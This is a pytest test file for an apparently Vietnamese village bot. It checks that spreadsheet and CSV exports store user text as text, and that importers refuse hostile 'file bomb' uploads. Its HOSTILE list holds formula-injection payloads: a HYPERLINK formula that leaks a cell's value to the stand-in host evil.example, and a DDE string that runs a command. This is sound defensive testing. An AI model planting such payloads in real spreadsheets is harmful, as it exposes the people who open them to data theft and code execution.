"""Issue 14, items 2 and 4: no export carries a formula from a user's text, and every
importer refuses every hostile file (tests/filebombs.py) in one clear line, within a
small memory budget, off the event loop."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Awaitable, Callable
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from bot.services import safefiles
from bot.services.contributions import files
from bot.services.criteria import Catalog
from bot.services.criteria.sheet import Level as CriteriaLevel
from bot.services.criteria.sheet import SheetInvalid, export_sheet, load_sheet
from bot.services.visits import importer
from bot.services.visits.report import (
    CoverageReport,
    MemberCoverage,
    NeedLine,
    OverdueLine,
    report_xlsx,
)
from tests.filebombs import BOMBS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&B4,"Bấm xem")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTab",
    "\rCR",
]


# exports


def _pledge_rows() -> list[files.ExportRow]:
    return [
        files.ExportRow(
            i,
            text,
            text,
            "material",
            5,
            "bao",
            text,
            0,
            "pledged",
            True,
            text,
            datetime(2026, 3, 2, 18, tzinfo=UTC),
        )  # fmt: skip
        for i, text in enumerate(HOSTILE, start=1)
    ]


def _coverage() -> CoverageReport:
    return CoverageReport(
        "Thôn",
        date(2026, 3, 1),
        members=[MemberCoverage(1, text, 2, 1) for text in HOSTILE],
        overdue=[OverdueLine(text, text, text, date(2026, 3, 1), 3) for text in HOSTILE],
        needs=[
            NeedLine(1, text, text, "other", text, "open", date(2026, 3, 2)) for text in HOSTILE
        ],
    )


def _criteria_xlsx(tmp_path: Path) -> bytes:
    catalog = Catalog.builtin()
    criteria_set = catalog.get("ntm-2026-2030")
    indicator = criteria_set.criteria[0].indicators[0].code
    path = tmp_path / "criteria.xlsx"
    export_sheet(
        criteria_set,
        [CriteriaLevel(criteria_set.code, indicator, "all", HOSTILE[0], HOSTILE[1])],
        path,
    )
    return path.read_bytes()


def _assert_no_formula(content: bytes) -> int:
    """Every cell of every sheet: none is a formula; hostile text is text. Returns how
    many hostile cells were seen."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = load_workbook(io.BytesIO(content))
    seen = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                # XML turns a leading carriage return into a line feed; still marked text
                if isinstance(cell.value, str) and cell.value.startswith(
                    (*safefiles.FORMULA_STARTS, "\n")
                ):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    seen += 1
    return seen


def _votes_xlsx() -> bytes:
    """A consultation's sheet of votes: the question, options, voters' names and their
    "other" answers are all typed text."""
    from bot.services.consultations import documents
    from bot.services.consultations.domain import Ballot, OptionCount, Tally
    from bot.services.consultations.service import Result
    from storage.models import Consultation

    moment = datetime(2026, 3, 1, 8, tzinfo=UTC)
    consultation = Consultation(
        id=1, code="abc", village_id=1, question=HOSTILE[0], kind="multi", allow_other=True,
        voters="household", names_public=True, opens_at=moment, closes_at=moment,
        closed_at=moment, status="closed",
    )  # fmt: skip
    tally = Tally([OptionCount(text, 1, 17) for text in HOSTILE], OptionCount("Khác", 6, 100), 6, 6,
                  list(HOSTILE))  # fmt: skip
    ballots = [Ballot(text, (0, -1), text, moment, 0) for text in HOSTILE]
    result = Result(consultation, list(HOSTILE), tally, ballots)
    return documents.votes_xlsx(result, lambda text: text, "Asia/Ho_Chi_Minh")


def _cells(content: bytes) -> list[object]:
    workbook = load_workbook(io.BytesIO(content))
    return [cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_every_xlsx_export_writes_typed_text_as_text(tmp_path: Path) -> None:
    pledges = files.export_xlsx(
        HOSTILE[0],
        _pledge_rows(),
        [files.ExportReceipt(1, 1, 5, date(2026, 3, 2), HOSTILE[1], "cash")],
    )
    assert _assert_no_formula(pledges) >= len(HOSTILE) * 4
    assert _assert_no_formula(report_xlsx(_coverage(), lambda text: text)) >= len(HOSTILE) * 4
    assert _assert_no_formula(_criteria_xlsx(tmp_path)) == 2
    votes = _votes_xlsx()
    assert _assert_no_formula(votes) >= len(HOSTILE) * 3
    # shown as typed (Excel's quote prefix), never with an apostrophe of ours in the cell
    cells = _cells(votes)
    assert HOSTILE[0] in cells and HOSTILE[1] in cells and "-2+3" in cells
    assert not [c for c in cells if isinstance(c, str) and c.startswith("'")]


def test_csv_export_puts_an_apostrophe_before_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(files.export_csv(_pledge_rows()).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(safefiles.FORMULA_STARTS)]
    assert "'" + HOSTILE[1] in cells and "'-2+3" in cells


def test_pledge_export_has_dates_as_dates_and_amounts_as_numbers() -> None:
    content = files.export_xlsx("Nhà văn hóa", _pledge_rows()[:1], [])
    sheet = load_workbook(io.BytesIO(content))["Cam kết"]
    assert sheet["L3"].is_date and sheet["L3"].value.date() == date(2026, 3, 3)  # 18:00 UTC
    assert sheet["E3"].value == 5 and sheet["E3"].data_type == "n"


# hostile files, against every importer


async def _statement(name: str, content: bytes, tmp_path: Path) -> Any:
    return await files.read_table(content, name)


async def _households(name: str, content: bytes, tmp_path: Path) -> Any:
    path = tmp_path / name
    path.write_bytes(content)
    return await importer.load_sheet(path)


async def _criteria(name: str, content: bytes, tmp_path: Path) -> Any:
    path = tmp_path / name.replace(".csv", ".xlsx")
    path.write_bytes(content)
    return await load_sheet(path, Catalog.builtin())


IMPORTERS: dict[str, Callable[[str, bytes, Path], Awaitable[Any]]] = {
    "statement_and_receipts": _statement,  # both contributions sheets read through this
    "households": _households,
    "criteria": _criteria,
}


@pytest.mark.parametrize("bomb", sorted(BOMBS))
@pytest.mark.parametrize("importer_name", sorted(IMPORTERS))
async def test_every_importer_refuses_every_hostile_file(
    importer_name: str, bomb: str, tmp_path: Path
) -> None:
    make, reasons = BOMBS[bomb]
    name, content = make()
    with pytest.raises((safefiles.FileRefused, SheetInvalid)) as caught:
        await IMPORTERS[importer_name](name, content, tmp_path)
    error = caught.value
    if importer_name == "criteria" and name.endswith(".csv"):
        reasons = {"unreadable"}  # the indicator sheet is a workbook: CSV content is refused
    if isinstance(error, SheetInvalid):  # the criteria sheet lists its errors by cell
        first = error.errors[0]
        assert first.message.format(**first.params).removeprefix("refused: ") in reasons
    else:
        assert error.reason in reasons, error.reason
        line = safefiles.refusal_text(error, lambda text: text)
        assert "\n" not in line and len(line) < 200


@pytest.mark.parametrize("bomb", sorted(BOMBS))
async def test_a_bomb_stays_within_a_hundred_megabytes(bomb: str) -> None:
    name, content = BOMBS[bomb][0]()
    result = await safefiles.run_worker(content, name, safefiles.Limits(max_bytes=10 * 1024 * 1024))
    assert "refused" in result
    assert result["peak_kb"] < 100 * 1024, result["peak_kb"]


async def test_a_good_sheet_reads_and_a_refused_one_says_where() -> None:
    from tests.filebombs import plain_xlsx

    rows = await safefiles.read_table(
        plain_xlsx([["Ngày", "Nội dung"], [date(2026, 3, 5), 12.0]]), "a.xlsx"
    )
    assert rows == [["Ngày", "Nội dung"], ["05/03/2026", "12"]]
    with pytest.raises(safefiles.FileRefused) as caught:
        await safefiles.read_table(("a,b\n" + "x," + "y" * 3000 + "\n").encode(), "a.csv")
    assert (caught.value.reason, caught.value.row, caught.value.column) == ("cell_too_long", 2, 2)
    assert "(row 2, column B)" in safefiles.refusal_text(caught.value, lambda text: text)


def _typed_cells_only(content: bytes) -> None:
    """No date and no amount hides in a text cell of any sheet."""
    import re

    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str):
                    assert not re.search(r"\d{1,2}/\d{1,2}/\d{4}", cell.value), cell.coordinate
                    assert not re.fullmatch(r"[\d.,]+\s*(₫|đ)?", cell.value), cell.coordinate


def test_every_export_has_dates_as_dates_and_numbers_as_numbers(tmp_path: Path) -> None:
    rows = [
        files.ExportRow(7, "Bà Tư", "NBT-001", "money", 1_500_000, "đ", "", 500_000, "partly_received",
                        True, "", datetime(2026, 3, 2, tzinfo=UTC)),
    ]  # fmt: skip
    _typed_cells_only(
        files.export_xlsx(
            "Nhà văn hóa",
            rows,
            [files.ExportReceipt(1, 7, 500_000, date(2026, 3, 2), "PT01", "cash")],
        )
    )
    coverage = CoverageReport(
        "Thôn", date(2026, 3, 1), [MemberCoverage(1, "An", 4, 3)],
        [OverdueLine("H1", "Hộ Một", "An", date(2026, 3, 1), 3)],
        [NeedLine(1, "H1", "Hộ Một", "other", "Cần sửa mái", "open", date(2026, 3, 2))],
    )  # fmt: skip
    _typed_cells_only(report_xlsx(coverage, lambda text: text))
    # the consultation's votes: the time of each vote is a date and time, not text
    from types import SimpleNamespace

    from bot.services.consultations.documents import votes_xlsx
    from bot.services.consultations.domain import Ballot, tally
    from bot.services.consultations.service import Result

    voted = datetime(2026, 3, 2, 1, 30, tzinfo=UTC)
    ballots = [Ballot("NBT-001 · Lê Văn C", (0,), "", voted, 1)]
    result = Result(SimpleNamespace(question="Làm đường?"), ["Đồng ý", "Không"],  # type: ignore[arg-type]
                    tally(["Đồng ý", "Không"], "Khác", ballots, eligible=2), ballots)  # fmt: skip
    content = votes_xlsx(result, lambda text: text, "Asia/Ho_Chi_Minh")
    _typed_cells_only(content)
    cells = [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
    [when] = [c for c in cells if isinstance(c.value, datetime)]
    assert when.value == datetime(2026, 3, 2, 8, 30)  # noqa: DTZ001 (Excel has no time zones)
    assert "dd/mm/yyyy" in when.number_format.lower()


async def test_an_old_xls_or_a_web_page_is_read_and_what_is_not_is_said_plainly() -> None:
    """Old Excel files are read now (tests/services/test_old_excel.py); a broken one says
    which files are read, and Excel 2003's XML spreadsheet asks to be saved as .xlsx."""
    rows = await safefiles.read_table(
        b"<html><table><tr><td>Ngay</td></tr></table></html>", "saoke.xls"
    )
    assert rows == [["Ngay"]]
    with pytest.raises(safefiles.FileRefused) as caught:
        await safefiles.read_table(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "saoke.xls")
    assert caught.value.reason == "unreadable"
    assert "XLS" in safefiles.refusal_text(caught.value, lambda text: text)
    with pytest.raises(safefiles.FileRefused) as caught:
        await safefiles.read_table(
            b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'
            b"<Worksheet><Table><Row><Cell><Data>Ngay</Data></Cell></Row></Table></Worksheet>"
            b"</Workbook>",
            "saoke.xls",
        )
    assert caught.value.reason == "old_format"
    assert ".xlsx" in safefiles.refusal_text(caught.value, lambda text: text)
